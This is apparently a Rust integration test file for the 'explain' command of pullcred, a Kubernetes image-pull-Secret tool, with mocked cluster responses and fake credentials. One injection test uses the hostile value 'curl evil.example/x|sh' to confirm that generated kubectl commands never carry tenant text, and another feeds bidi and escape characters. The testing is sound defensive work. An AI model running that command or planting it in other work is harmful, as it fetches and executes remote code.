//! `pullcred explain`, through the real binary, and on every answer of the upstream code in `crates/core/tests/vectors`.

#![cfg(test)]

#[path = "support/api_server.rs"]
mod api_server;
#[path = "support/cli.rs"]
mod cli;
#[path = "support/snapshot.rs"]
mod snapshot;

use std::{collections::BTreeMap, fmt::Write, fs, path::Path};

use api_server::ApiServer;
use cli::{Run, run};
use pullcred::cluster::ClusterOptions;
use pullcred::commands::{
    Exit, Streams,
    explain::{self, Asked, Options, Output},
    manifests::Source,
};
use serde::Deserialize;
use serde_json::{Value, json};

const EXPLAIN: [&str; 3] = ["explain", "--config", "explain/mapping.yaml"];

fn explain(args: &[&str], stdin: &str) -> Run {
    let args: Vec<_> = EXPLAIN.iter().chain(args).copied().collect();
    run(&args, stdin)
}

fn values(json: &str) -> Vec<Value> {
    json.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn vectors<T: serde::de::DeserializeOwned>(file: &str) -> Vec<T> {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/crates/core/tests/vectors/").to_owned() + file;
    let vectors = fs::read_to_string(path).unwrap();
    vectors.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn snapshot(name: &str, shown: &str) {
    snapshot::snapshot("explain", name, shown);
}

#[test]
fn a_line_of_json_has_these_fields_in_this_order() {
    let run =
        explain(&["-o", "json", "--secrets", "explain/secrets.yaml", "ghcr.io/acme/web:1"], "");
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_eq!(
        run.stdout,
        concat!(
            r#"{"image":"ghcr.io/acme/web:1","valid":true,"name":"ghcr.io/acme/web","registry":"ghcr.io","#,
            r#""repository":"acme/web","tag":"1","digest":"","error":"","#,
            r#""rules":[{"pattern":"ghcr.io/acme","secret":"acme-robot","line":2},"#,
            r#"{"pattern":"ghcr.io","secret":"github","line":4}],"secrets":["acme-robot","github"],"#,
            r#""kubelet":{"error":false,"bad_secrets":[],"#,
            r#""matches":[{"secret":"acme-robot","key":"ghcr.io/acme","rank":1}],"secrets":["acme-robot"]}}"#,
            "\n"
        )
    );
    let run = explain(&["-o", "json", "nginx:"], "");
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_eq!(
        run.stdout,
        concat!(
            r#"{"image":"nginx:","valid":false,"name":"","registry":"","repository":"","tag":"","digest":"","#,
            r#""error":"no tag behind the `:`: write one, or leave out the colon","rules":[],"secrets":[]}"#,
            "\n"
        )
    );
}

/// One line of `images.jsonl`.
#[derive(Deserialize)]
struct ImageVector {
    image: String,
    valid: bool,
    #[serde(flatten)]
    rest: BTreeMap<String, Value>,
}

#[test]
fn every_image_is_read_as_the_kubelet_reads_it() {
    let mut vectors: Vec<ImageVector> = vectors("images.jsonl");
    assert!(vectors.len() > 1000);
    // What has a line break in it is no line of standard input.
    vectors
        .retain(|vector| !vector.image.contains(['\n', '\r']) && !vector.image.trim().is_empty());
    assert!(vectors.len() > 1000);
    let mut images = String::new();
    for vector in &vectors {
        writeln!(images, "{}", vector.image).unwrap();
    }
    let run = explain(&["-o", "json", "-"], &images);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let answers = values(&run.stdout);
    assert_eq!(answers.len(), vectors.len());
    for (answer, vector) in answers.iter().zip(&vectors) {
        assert_eq!(
            (&answer["image"], &answer["valid"]),
            (&json!(vector.image), &json!(vector.valid))
        );
        for field in ["name", "registry", "repository", "tag", "digest"] {
            let expected = vector.rest.get(field).cloned().unwrap_or_default();
            assert_eq!(
                answer[field].as_str(),
                expected.as_str().or(Some("")),
                "{field} of {}",
                vector.image
            );
        }
        assert_eq!(answer["error"] == "", vector.valid, "{}", vector.image);
    }
}

/// One line of `keyring.jsonl`.
#[derive(Deserialize)]
struct KeyringVector {
    id: String,
    image: String,
    auths_by_secret: Vec<SecretVector>,
    error: bool,
    matches: Vec<Value>,
    secrets: Vec<String>,
    #[serde(default)]
    bad_secrets: Vec<String>,
}

/// A Secret of a Pod.
#[derive(Deserialize)]
struct SecretVector {
    name: String,
    #[serde(rename = "type")]
    type_: String,
    data: Option<BTreeMap<String, String>>,
    data_base64: Option<BTreeMap<String, String>>,
}

impl KeyringVector {
    /// Its Secrets as a file of manifests.
    fn manifests(&self) -> String {
        let manifests = self.auths_by_secret.iter().map(|secret| {
            let manifest = json!({
                "apiVersion": "v1", "kind": "Secret", "metadata": {"name": secret.name}, "type": secret.type_,
                "stringData": secret.data, "data": secret.data_base64,
            });
            format!("---\n{manifest}\n")
        });
        manifests.collect()
    }

    /// What must be said of it.
    fn answer(&self) -> Value {
        let Self { error, bad_secrets, secrets, .. } = self;
        let matches = self
            .matches
            .iter()
            .map(|it| json!({"secret": it["secret"], "key": it["key"], "rank": it["rank"]}));
        let matches: Vec<Value> = matches.collect();
        json!({"error": error, "bad_secrets": bad_secrets, "matches": matches, "secrets": secrets})
    }
}

#[test]
fn every_keyring_is_the_kubelet_s() {
    let vectors: Vec<KeyringVector> = vectors("keyring.jsonl");
    assert!(vectors.len() > 1000);
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("secrets.yaml");
    let mapping = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/testdata/mapping.yaml"));
    let mut bad = 0;
    for vector in &vectors {
        fs::write(&file, vector.manifests()).unwrap();
        let options = Options {
            config: Some(mapping.to_owned()),
            output: Output::Json,
            namespace: None,
            service_accounts: Vec::new(),
            reports: None,
            cluster: ClusterOptions::default(),
            secrets: vec![Source::File(file.clone())],
            paths: Vec::new(),
            asked: Asked::Images(vec![vector.image.clone()]),
        };
        let (mut stdout, mut stderr) = (Vec::new(), Vec::new());
        let mut streams = Streams {
            stdin: &mut std::io::empty(),
            stdout: &mut stdout,
            stderr: &mut stderr,
            colour: false,
        };
        let exit = explain::run(&options, &mut streams).unwrap();
        assert_eq!(exit, Exit::Fine);
        let answer: Value = serde_json::from_slice(&stdout).unwrap();
        assert_eq!(answer["image"], vector.image, "{}", vector.id);
        assert_eq!(answer["kubelet"], vector.answer(), "{}", vector.id);
        bad += usize::from(!vector.bad_secrets.is_empty());
    }
    assert!(bad > 50, "only {bad} vectors have a bad Secret");
}

#[test]
fn the_story_of_images() {
    let images = [
        "ghcr.io/acme/web:1",
        "registry.example.com/db",
        "nginx:1.27",
        "1.dkr.ecr.eu-west-1.amazonaws.com/models",
        "my_host.io/app",
        "https://ghcr.io/acme/web",
        "",
    ];
    let with_secrets = ["--secrets", "explain/secrets.yaml"];
    let run = explain(&[&with_secrets[..], &images].concat(), "");
    snapshot("images", &run.shown());

    let run = explain(&["--secrets", "explain/broken-secret.yaml", "quay.io/acme/web"], "");
    snapshot("broken-secret", &run.shown());
    assert!(!run.stdout.contains("hunter2"));

    let run = explain(&["-n", "kube-system", "-"], "ghcr.io/acme/web\r\nquay.io/acmeevil/web\n");
    snapshot("excluded-namespace", &run.shown());
}

#[test]
fn that_there_are_no_secrets_is_said() {
    let run = explain(&["--secrets", "-", "nginx"], "{apiVersion: v1, kind: ConfigMap}");
    assert!(run.stdout.starts_with("Secrets at hand: none\n"), "{}", run.shown());
    assert_eq!(run.stderr, "no Secret found in what --secrets names\n");
}

#[test]
fn the_story_of_pods() {
    let run = explain(&["-f", "explain/pods.yaml", "--secrets", "explain/secrets.yaml"], "");
    snapshot("pods", &run.shown());
    let run = explain(
        &["-f", "explain/pods.yaml", "--secrets", "explain/secrets.yaml", "-o", "json"],
        "",
    );
    snapshot("pods-json", &run.shown());
}

#[test]
fn secrets_of_another_namespace_are_no_use() {
    let secret = json!({
        "apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/dockerconfigjson",
        "metadata": {"name": "a", "namespace": "other"},
        "stringData": {".dockerconfigjson": json!({"auths": {"quay.io": {}}}).to_string()},
    });
    let offered = |args: &[&str]| {
        let args = [args, &["--secrets", "-", "-o", "json", "quay.io/x/y"]].concat();
        let run = explain(&args, &secret.to_string());
        assert_eq!(run.code, Some(0), "{}", run.stderr);
        values(&run.stdout)[0]["kubelet"]["secrets"].clone()
    };
    assert_eq!(offered(&[]), json!(["a"]));
    assert_eq!(offered(&["-n", "other"]), json!(["a"]));
    assert_eq!(offered(&["-n", "shop"]), json!([]));
}

#[test]
fn colours_are_for_terminals() {
    let mut command = cli::command(&[&EXPLAIN[..], &["nginx"]].concat());
    assert!(!cli::output(&mut command, "").stdout.contains('\u{1b}'));
    command.env("CLICOLOR_FORCE", "1");
    assert!(cli::output(&mut command, "").stdout.contains('\u{1b}'));
    command.env("NO_COLOR", "1");
    assert!(!cli::output(&mut command, "").stdout.contains('\u{1b}'));
}

fn pod(name: &str, images: &[&str], secrets: &[&str], waiting: &str) -> Value {
    let containers = images
        .iter()
        .enumerate()
        .map(|(at, image)| json!({"name": format!("c{at}"), "image": image}));
    let containers: Vec<Value> = containers.collect();
    let secrets: Vec<Value> = secrets.iter().map(|name| json!({"name": name})).collect();
    let state = match waiting {
        "" => json!({"running": {}}),
        reason => {
            json!({"waiting": {"reason": reason, "message": "failed to resolve reference: 401 Unauthorized"}})
        }
    };
    json!({
        "metadata": {"name": name, "namespace": "shop"},
        "spec": {"containers": containers, "imagePullSecrets": secrets},
        "status": {"containerStatuses": [{"name": "c0", "state": state}]},
    })
}

fn secret(name: &str, type_: &str, config: &Value) -> (u16, Value) {
    use base64::{Engine, prelude::BASE64_STANDARD};
    let config = BASE64_STANDARD.encode(config.to_string());
    let metadata = json!({"name": name, "namespace": "shop"});
    (200, json!({"metadata": metadata, "type": type_, "data": {".dockerconfigjson": config}}))
}

#[test]
fn the_story_of_a_cluster() {
    let list = |items: Vec<Value>, token: &str| {
        (
            200,
            json!({"kind": "PodList", "apiVersion": "v1", "metadata": {"continue": token}, "items": items}),
        )
    };
    let docker = "kubernetes.io/dockerconfigjson";
    let answers = BTreeMap::from([
        (
            "/api/v1/namespaces/shop/pods?&limit=250",
            list(
                vec![
                    pod(
                        "too-early",
                        &["ghcr.io/acme/web:1", "quay.io/acme/db"],
                        &[],
                        "ImagePullBackOff",
                    ),
                    pod(
                        "not-made",
                        &["quay.io/acme/web"],
                        &["acme-robot", "nowhere"],
                        "ErrImagePull",
                    ),
                    pod("refused", &["registry.example.com:443/db"], &["example"], "ErrImagePull"),
                ],
                "more",
            ),
        ),
        (
            "/api/v1/namespaces/shop/pods?&limit=250&continue=more",
            list(
                vec![
                    pod("opaque", &["ghcr.io/x/y"], &["github"], "ErrImagePull"),
                    pod("broken", &["nginx"], &["broken"], "ErrImagePull"),
                    pod("no-image", &["ghcr.io/Acme/web"], &[], "InvalidImageName"),
                    pod("hidden", &["gcr.io/x/y", "gcr.io/x/z"], &["hidden"], "ErrImagePull"),
                    pod("well", &["registry.example.com:443/db"], &["example"], ""),
                ],
                "",
            ),
        ),
        ("/api/v1/namespaces/shop", (200, json!({"metadata": {"name": "shop"}}))),
        (
            "/api/v1/namespaces/shop/secrets/example",
            secret(
                "example",
                docker,
                &json!({"auths": {"registry.example.com:443": {"auth": "cm9ib3Q6cHc="}}}),
            ),
        ),
        (
            "/api/v1/namespaces/shop/secrets/github",
            secret("github", "Opaque", &json!({"auths": {"ghcr.io": {}}})),
        ),
        (
            "/api/v1/namespaces/shop/secrets/broken",
            secret("broken", docker, &json!({"auths": {"quay.io": {"auth": "hunter2"}}})),
        ),
        (
            "/api/v1/namespaces/shop/secrets/hidden",
            (403, json!({"message": "secrets \"hidden\" is forbidden", "reason": "Forbidden"})),
        ),
    ]);
    let server = ApiServer::start(answers);
    let folder = tempfile::tempdir().unwrap();
    let kubeconfig = folder.path().join("kubeconfig");
    fs::write(&kubeconfig, server.kubeconfig()).unwrap();
    let live = ["--live", "--kubeconfig", kubeconfig.to_str().unwrap()];
    let run = explain(&live, "");
    snapshot("live", &run.shown());
    let run = explain(&[&live[..], &["-o", "json"]].concat(), "");
    snapshot("live-json", &run.shown());
    assert!(!run.stdout.contains("hunter2"));

    let run = explain(&[&live[..], &["-n", "elsewhere"]].concat(), "");
    snapshot("live-refused", &run.shown());
    let run = explain(&["--live", "--kubeconfig", "nowhere"], "");
    snapshot("live-without-a-kubeconfig", &run.shown());
}

#[test]
fn mistakes_are_explained() {
    let mistakes: [(&str, &[&str]); 6] = [
        ("nothing to explain", &[]),
        ("two things at once", &["nginx", "--live"]),
        ("standard input twice", &["-", "--secrets", "-"]),
        ("a flag of another kind of question", &["nginx", "--context", "x"]),
        ("a Secret that is not base64", &["nginx", "--secrets", "-"]),
        ("a file of something else", &["-f", "explain/mapping.yaml"]),
    ];
    let secret =
        "apiVersion: v1\nkind: Secret\nmetadata: {name: a}\ndata: {.dockerconfigjson: '{}'}\n";
    let mut shown = String::new();
    for (what, args) in mistakes {
        let run = explain(args, secret);
        let args = [&EXPLAIN[..], args].concat().join(" ");
        writeln!(shown, "=== {what}: pullcred {args}\n{}\n", run.shown()).unwrap();
    }
    snapshot("mistakes", &shown);
}

/// What `explain --live` shows of one Pod in namespace `shop`, which has opted in and has no Secret.
fn explain_one(pod: &Value) -> String {
    let list = json!({"kind": "PodList", "apiVersion": "v1", "metadata": {}, "items": [pod]});
    let labels = json!({"name": "shop", "labels": {"pullcred.dev/inject": "enabled"}});
    let answers = BTreeMap::from([
        ("/api/v1/namespaces/shop/pods?&limit=250", (200, list)),
        ("/api/v1/namespaces/shop", (200, json!({"metadata": labels}))),
    ]);
    let server = ApiServer::start(answers);
    let folder = tempfile::tempdir().unwrap();
    let kubeconfig = folder.path().join("kubeconfig");
    fs::write(&kubeconfig, server.kubeconfig()).unwrap();
    let run = explain(&["--live", "--kubeconfig", kubeconfig.to_str().unwrap()], "");
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    run.stdout
}

#[test]
fn text_of_a_tenant_is_in_no_command() {
    let evil = "db -n shop; curl evil.example/x|sh; :";
    for kind in ["StatefulSet", "Deployment", "Job", "Rollout", evil] {
        let mut waits =
            pod("innocent", &["ghcr.io/acme/web:1"], &[evil, "$(evil)"], "ErrImagePull");
        waits["metadata"]["ownerReferences"] =
            json!([{"apiVersion": "apps/v1", "kind": kind, "name": evil, "controller": true}]);
        let shown = explain_one(&waits);
        let commands =
            shown.lines().filter(|line| line.contains("kubectl") || line.contains("docker login"));
        let commands: Vec<_> = commands.collect();
        assert!(commands.len() >= 2, "{shown}");
        assert!(commands.iter().all(|line| !line.contains("evil")), "{kind}: {shown}");
        assert!(shown.contains("no Secret can have that name"), "{shown}");
    }
}

#[test]
fn what_turns_text_around_is_escaped() {
    let image = "ghcr.io/acme/\u{202e}1:bew\u{200b}\u{feff}\u{2066}";
    let shown = explain_one(&pod("a", &[image], &[], "InvalidImageName"));
    assert!(shown.contains(r"ghcr.io/acme/\u{202e}1:bew\u{200b}\u{feff}\u{2066}"), "{shown}");
    assert!(!shown.contains(['\u{202e}', '\u{200b}', '\u{feff}', '\u{2066}']), "{shown}");
    let run = explain(&["-f", "nowhere\u{202e}\u{1b}[31m"], "");
    assert!(run.stderr.contains(r"nowhere\u{202e}\u{1b}[31m"), "{}", run.stderr);
}

#[test]
fn a_pod_that_opted_out_needs_no_other_login() {
    let mut out = pod("out", &["ghcr.io/acme/web:1"], &[], "ErrImagePull");
    out["metadata"]["labels"] = json!({"pullcred.dev/inject": "disabled"});
    let shown = explain_one(&out);
    assert!(
        shown.contains("do: remove the label pullcred.dev/inject from what makes the Pod"),
        "{shown}"
    );
    assert!(!shown.contains("other registries"), "{shown}");
}

#[test]
fn a_waiting_pod_of_a_stateful_set_is_to_be_deleted() {
    let mut db = pod("db-0", &["ghcr.io/acme/db:1"], &[], "ImagePullBackOff");
    db["metadata"]["ownerReferences"] =
        json!([{"apiVersion": "apps/v1", "kind": "StatefulSet", "name": "db", "controller": true}]);
    let shown = explain_one(&db);
    assert!(shown.contains("kubectl delete pod -n shop db-0"), "{shown}");
    assert!(!shown.contains("rollout restart"), "{shown}");
}

/// A manifest of a Secret with this text under the data key of its type.
fn manifest(type_: &str, text: &str) -> String {
    let data_key = if type_ == "dockercfg" { ".dockercfg" } else { ".dockerconfigjson" };
    json!({
        "apiVersion": "v1", "kind": "Secret", "metadata": {"name": "example"},
        "type": format!("kubernetes.io/{type_}"), "stringData": {data_key: text},
    })
    .to_string()
}

#[test]
fn what_was_most_likely_not_meant_in_a_secret_is_said() {
    use base64::{Engine, prelude::BASE64_STANDARD};
    let auths = |login: &str| {
        let auth = BASE64_STANDARD.encode(login);
        format!(r#"{{"auths": {{"registry.example.com": {{"auth": "{auth}"}}}}}}"#)
    };
    let older = r#"{"registry.example.com": {"auth": "cm9ib3Q6cHc="}}"#;
    let no_login = r#"{"auths": {"registry.example.com": {}}, "credsStore": "desktop"}"#;
    for (type_, text, says) in [
        ("dockerconfigjson", auths("robot:pw\u{b}\n"), "the password ends with a line break"),
        ("dockerconfigjson", auths("robot:pw\r\n"), "the password ends with a line break"),
        ("dockerconfigjson", auths("robot\n:pw"), "the user ends with a line break"),
        ("dockerconfigjson", auths("\u{feff}robot:pw"), "the user begins with a byte order mark"),
        ("dockerconfigjson", auths("robot:\u{200b}pw"), "an invisible character in the password"),
        (
            "dockerconfigjson",
            no_login.to_owned(),
            "which has no login: the registry is asked without one",
        ),
        ("dockerconfigjson", older.to_owned(), "has its entries at the top, as in the older form"),
        ("dockercfg", auths("robot:pw"), "has `auths` in it, as in the newer form"),
        (
            "dockerconfigjson",
            format!("\u{feff}{}", auths("robot:pw")),
            "begins with a byte order mark",
        ),
        ("dockercfg", format!("\u{feff}{older}"), "begins with a byte order mark"),
        (
            "dockerconfigjson",
            manifest("dockerconfigjson", "{}"),
            "holds a whole manifest of a Secret",
        ),
    ] {
        let secret = manifest(type_, &text);
        let explained = explain(&["--secrets", "-", "registry.example.com/app"], &secret);
        assert!(explained.stdout.contains(says), "{says}: {}", explained.shown());
        let shown = run(&["secret", "show", "-"], &secret);
        let says = if says.starts_with("which has no login") { "there is no login" } else { says };
        assert!(shown.stdout.contains(says), "{says}: {}", shown.shown());
    }
    let fine = explain(
        &["--secrets", "-", "registry.example.com/app"],
        &manifest("dockerconfigjson", &auths("robot:pw")),
    );
    assert!(
        fine.stdout.contains("1. example, by its key registry.example.com\n"),
        "{}",
        fine.shown()
    );
    assert!(!fine.stdout.contains("Secret example:"), "{}", fine.shown());
    // The data key of the one form under the type of the other.
    let mixed = manifest("dockerconfigjson", older).replace(".dockerconfigjson", ".dockercfg");
    let mixed = explain(&["--secrets", "-", "registry.example.com/app"], &mixed);
    assert!(mixed.stdout.contains("data key and type belong together"), "{}", mixed.shown());
}

#[test]
fn blank_lines_are_no_images() {
    let run = explain(&["-o", "json", "-"], "nginx\n\n \t\r\nregistry.example.com/a:1\n\n");
    let images: Vec<_> = values(&run.stdout).iter().map(|it| it["image"].clone()).collect();
    assert_eq!(images, ["nginx", "registry.example.com/a:1"]);
}

#[test]
fn other_hosts_of_one_provider_are_near() {
    let folder = tempfile::tempdir().unwrap();
    let mapping = folder.path().join("mapping.yaml");
    let rules = "rules:\n\
        - {registries: ['*.azurecr.io'], secret: acr}\n\
        - {registries: ['*.pkg.dev', gcr.io, '*.gcr.io'], secret: gar}\n\
        - {registries: ['*.dkr.ecr.*.amazonaws.com'], secret: ecr}\n\
        - {registries: ['*.cr.aliyuncs.com', registry.cn-hangzhou.aliyuncs.com], secret: ali}\n";
    fs::write(&mapping, rules).unwrap();
    for (image, line) in [
        ("registry-vpc.cn-hangzhou.aliyuncs.com/acme/app", 5),
        ("registry-internal.cn-hangzhou.aliyuncs.com/acme/app", 5),
        ("registry-intl.cn-hangzhou.aliyuncs.com/acme/app", 5),
        ("1.dkr.ecr.cn-north-1.amazonaws.com.cn/app", 4),
        ("1.dkr.ecr-fips.us-east-1.amazonaws.com/app", 4),
        ("1.dkr-ecr.us-east-1.on.aws/app", 4),
        ("acme.azurecr.cn/app", 2),
        ("acme.westeurope.geo.azurecr.io/app", 2),
    ] {
        let run = run(&["explain", "--config", mapping.to_str().unwrap(), image], "");
        assert!(run.stdout.contains("no rule of the mapping covers it"), "{}", run.shown());
        assert!(run.stdout.contains(&format!("line {line}, ")), "{image}: {}", run.shown());
    }
    let auths = r#"{"auths": {"registry.cn-hangzhou.aliyuncs.com": {"auth": "cm9ib3Q6cHc="}}}"#;
    let image = "registry-vpc.cn-hangzhou.aliyuncs.com/acme/app";
    let run = explain(&["--secrets", "-", image], &manifest("dockerconfigjson", auths));
    assert!(run.stdout.contains("it is another host of the same provider"), "{}", run.shown());
}

#[test]
fn the_mapping_of_a_cluster_is_found_there() {
    let list =
        |kind: &str, items: Value| (200, json!({"kind": kind, "metadata": {}, "items": items}));
    let waits = pod("a", &["ghcr.io/acme/web:1"], &[], "ErrImagePull");
    let webhook = json!({
        "name": "inject.pullcred.dev", "sideEffects": "None", "admissionReviewVersions": ["v1"],
        "clientConfig": {"service": {"namespace": "pullcred", "name": "pullcred"}},
    });
    let configuration = json!({"metadata": {"name": "pullcred"}, "webhooks": [webhook]});
    let replica = json!({
        "metadata": {"name": "pullcred-1", "namespace": "pullcred"},
        "spec": {
            "containers": [{
                "name": "webhook", "args": ["webhook", "--config=/etc/pullcred/mapping.yaml"],
                "volumeMounts": [{"name": "m", "mountPath": "/etc/pullcred"}],
            }],
            "volumes": [{"name": "m", "configMap": {"name": "pullcred-mapping"}}],
        },
    });
    let service =
        json!({"metadata": {"name": "pullcred"}, "spec": {"selector": {"app": "pullcred"}}});
    let mapping = "# one\n# two\nrules:\n  - registries: [ghcr.io]\n    secret: of-the-cluster\n";
    let map = json!({"metadata": {"name": "pullcred-mapping"}, "data": {"mapping.yaml": mapping}});
    let webhooks = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations?&limit=250";
    let answers = BTreeMap::from([
        ("/api/v1/namespaces/shop/pods?&limit=250", list("PodList", json!([waits]))),
        (webhooks, list("MutatingWebhookConfigurationList", json!([configuration]))),
        ("/api/v1/namespaces/pullcred/services/pullcred", (200, service)),
        (
            "/api/v1/namespaces/pullcred/pods?&labelSelector=app%3Dpullcred&limit=250",
            list("PodList", json!([replica])),
        ),
        ("/api/v1/namespaces/pullcred/configmaps/pullcred-mapping", (200, map)),
    ]);
    let folder = tempfile::tempdir().unwrap();
    let explained = |answers: &BTreeMap<&'static str, (u16, Value)>, config: &[&str]| {
        let server = ApiServer::start(answers.clone());
        let kubeconfig = folder.path().join("kubeconfig");
        fs::write(&kubeconfig, server.kubeconfig()).unwrap();
        let live = ["explain", "--live", "--kubeconfig", kubeconfig.to_str().unwrap()];
        run(&[&live[..], config].concat(), "")
    };
    let found = explained(&answers, &[]);
    assert_eq!(found.code, Some(0), "{}", found.shown());
    assert!(found.stdout.contains("line 4, ghcr.io, names of-the-cluster"), "{}", found.shown());
    let by = "by the mapping of configmap pullcred/pullcred-mapping, which has the lines that are named\n";
    assert_eq!(found.stderr, by);

    let other = ["--config", "explain/mapping.yaml"];
    let found = explained(&answers, &other);
    assert!(found.stdout.contains("names github"), "{}", found.shown());
    assert!(
        found.stderr.contains("is not the mapping of configmap pullcred/pullcred-mapping"),
        "{}",
        found.stderr
    );
    let same = folder.path().join("same.yaml");
    fs::write(&same, "rules: [{registries: [GHCR.io], secret: of-the-cluster}]\n").unwrap();
    assert_eq!(explained(&answers, &["--config", same.to_str().unwrap()]).stderr, "");

    let mut absent = answers.clone();
    absent.insert(webhooks, list("MutatingWebhookConfigurationList", json!([])));
    let found = explained(&absent, &other);
    assert!(
        found.stderr.contains("no MutatingWebhookConfiguration has the webhook"),
        "{}",
        found.stderr
    );
    assert!(
        found.stdout.contains("do: install pullcred, or `helm upgrade` it"),
        "{}",
        found.shown()
    );
    let found = explained(&absent, &[]);
    assert_eq!((found.code, found.stdout.as_str()), (Some(1), ""), "{}", found.shown());
    assert!(found.stderr.contains("Name one with --config FILE"), "{}", found.stderr);
}
